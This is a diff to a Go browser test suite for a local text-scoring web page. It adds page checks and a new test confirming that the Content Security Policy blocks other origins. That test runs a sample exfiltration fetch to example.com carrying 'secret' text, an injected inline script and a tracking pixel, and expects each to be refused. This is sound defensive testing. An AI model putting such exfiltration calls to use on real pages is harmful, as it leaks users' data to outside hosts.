@@ -88,6 +88,7 @@ func TestPageScoresLikeTheCommand(t *testing.T) {
 
 	// Every request went to the page's own origin (newBrowser checks the
 	// rest), and that includes the worker's imports: the recorder sees them.
+	checkPage(t, b)
 	reqs := strings.Join(b.proxy.requests(), "\n")
 	for _, f := range []string{"/finscore.fsb", "/finscore.wasm", "/worker.js", "/wasm_exec.js", "/kernel-host.mjs", "/kernels.wasm"} {
 		if !strings.Contains(reqs, s.Host+f) {
@@ -132,6 +133,7 @@ func TestPastedMarkupIsShownAsText(t *testing.T) {
 	if v := eval[int](t, b, `window.__pwned`); v != 0 {
 		t.Errorf("a payload ran (window.__pwned = %d)", v)
 	}
+	checkPage(t, b)
 	for _, r := range b.proxy.requests() {
 		if strings.HasSuffix(r, "/x") {
 			t.Errorf("the page requested the payload's image: %s", r)
@@ -246,6 +248,7 @@ func TestWorksOfflineAfterTheFirstVisit(t *testing.T) {
 	if got := scoreInPage(t, b, compareTexts[1]); got.Label != want.Label || got.Risk != want.Risk || !slices.Equal(got.Sentences, want.Sentences) {
 		t.Errorf("offline the page shows %+v, online %+v", got, want)
 	}
+	checkPage(t, b)
 }
 
 func TestLoadErrorsAreShown(t *testing.T) {
@@ -342,6 +345,7 @@ func TestBatchFileScoresLocallyAndDownloadsCSV(t *testing.T) {
 			t.Errorf("CSV line %d %q lacks %s / %s", i+1, line, want[i].Sentiment.Label, want[i].Risk.Level)
 		}
 	}
+	checkPage(t, b)
 	// The file itself never went to the server.
 	for _, r := range b.proxy.requests() {
 		if !strings.HasPrefix(r, "GET ") {
@@ -398,6 +402,40 @@ func TestServiceWorkerListsEveryFile(t *testing.T) {
 	for name := range listed {
 		if _, err := os.Stat(filepath.Join(dir, name)); name != "./" && err != nil {
 			t.Errorf("sw.js lists %s, which the site does not have", name)
+		}
+	}
+}
+
+func TestContentSecurityPolicyBlocksOtherOrigins(t *testing.T) {
+	_, b := openPage(t, siteDir(t), "/")
+	// What a compromised or careless script might try: each is refused by
+	// the browser before any request is made.
+	got := eval[string](t, b, `fetch('http://example.com/collect?text=secret').then(() => 'sent', (e) => 'refused: ' + e.name)`)
+	if got != "refused: TypeError" {
+		t.Errorf("cross-origin fetch: %s", got)
+	}
+	eval[bool](t, b, `(() => {
+		const s = document.createElement('script');
+		s.textContent = 'window.__inline = 1';
+		document.body.append(s);
+		const i = document.createElement('img');
+		i.src = 'http://example.com/pixel.gif';
+		document.body.append(i);
+		return true;
+	})()`)
+	waitFor(t, b, "the violations", `__problems.length >= 3`, 10*time.Second)
+	if eval[bool](t, b, `window.__inline === 1`) {
+		t.Error("an inline script ran")
+	}
+	problems := strings.Join(eval[[]string](t, b, `__problems`), "\n")
+	for _, want := range []string{"connect-src", "script-src", "img-src"} {
+		if !strings.Contains(problems, want) {
+			t.Errorf("no %s violation recorded; problems:\n%s", want, problems)
+		}
+	}
+	for _, r := range b.proxy.requests() {
+		if strings.Contains(r, "example.com") {
+			t.Errorf("the browser sent %s", r)
 		}
 	}
 }
